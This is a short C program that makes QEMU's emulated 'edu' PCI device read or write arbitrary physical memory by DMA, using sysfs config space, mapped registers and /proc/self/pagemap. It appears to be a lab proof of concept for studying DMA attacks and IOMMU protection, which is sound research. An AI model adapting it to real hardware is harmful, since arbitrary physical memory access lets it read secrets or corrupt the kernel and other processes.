/* SPDX-License-Identifier: GPL-2.0-or-later */
/*
 * Has QEMU's device "edu" read or write physical memory, as a driver of the parent could:
 *   dma_attack FOLDER read ADDRESS     prints 16 bytes that the device has read there
 *   dma_attack FOLDER write ADDRESS    has it write 16 times 'A' there
 * FOLDER: the device in sysfs. The bytes go by way of a page of this program, whose physical
 * address is asked of the kernel; `own` as ADDRESS is that page, for a try that must succeed.
 */
#include <fcntl.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mman.h>
#include <unistd.h>

#define BYTES 16u
#define REGISTERS_BYTES (1u << 20)
#define BUFFER 0x40000u /* of the device, as its DMA knows it */
#define FROM 0x80u
#define TO 0x88u
#define COUNT 0x90u
#define COMMAND 0x98u
#define START 1u
#define TO_MEMORY 2u
#define PCI_COMMAND 4
#define PCI_COMMAND_MEMORY_MASTER 6u
#define WAIT_US 10000u
#define PAGE 4096u

static volatile uint8_t *device;

static void fail(const char *what)
{
	perror(what);
	exit(1);
}

static void set(uint32_t offset, uint64_t value)
{
	*(volatile uint64_t *)(device + offset) = value;
}

static void move(uint64_t from, uint64_t to, uint64_t command)
{
	set(FROM, from);
	set(TO, to);
	set(COUNT, BYTES);
	set(COMMAND, command | START);
	while (*(volatile uint64_t *)(device + COMMAND) & START)
		usleep(WAIT_US);
}

static uint64_t physical(const void *page)
{
	uint64_t entry = 0, at = (uint64_t)(uintptr_t)page / PAGE * sizeof(entry);
	int f = open("/proc/self/pagemap", O_RDONLY);

	if (f < 0 || pread(f, &entry, sizeof(entry), (off_t)at) != (ssize_t)sizeof(entry))
		fail("pagemap");
	(void)close(f);
	return (entry & ((UINT64_C(1) << 55) - 1)) * PAGE;
}

static void open_device(const char *folder)
{
	const uint16_t master = PCI_COMMAND_MEMORY_MASTER;
	char name[256];
	int f;

	(void)snprintf(name, sizeof(name), "%s/config", folder);
	f = open(name, O_RDWR);
	if (f < 0 || pwrite(f, &master, sizeof(master), PCI_COMMAND) != (ssize_t)sizeof(master))
		fail(name);
	(void)close(f);
	(void)snprintf(name, sizeof(name), "%s/resource0", folder);
	f = open(name, O_RDWR);
	device = mmap(NULL, REGISTERS_BYTES, PROT_READ | PROT_WRITE, MAP_SHARED, f, 0);
	if (f < 0 || device == MAP_FAILED)
		fail(name);
	(void)close(f);
}

int main(int argc, char **argv)
{
	uint8_t *page = mmap(NULL, PAGE, PROT_READ | PROT_WRITE,
			     MAP_PRIVATE | MAP_ANONYMOUS | MAP_LOCKED | MAP_POPULATE, -1, 0);
	uint64_t at, own;

	if (argc != 4 || page == MAP_FAILED)
		return 2;
	open_device(argv[1]);
	own = physical(page);
	at = strcmp(argv[3], "own") == 0 ? own : strtoull(argv[3], NULL, 0);
	memset(page, 'A', BYTES);
	move(own, BUFFER, 0);
	if (strcmp(argv[2], "write") == 0) {
		move(BUFFER, at, TO_MEMORY);
		return 0;
	}
	move(at, BUFFER, 0);
	memset(page, 'B', BYTES);
	move(BUFFER, own, TO_MEMORY);
	for (unsigned i = 0; i < BYTES; i++)
		printf("%02x", page[i]);
	printf("\n");
	return 0;
}
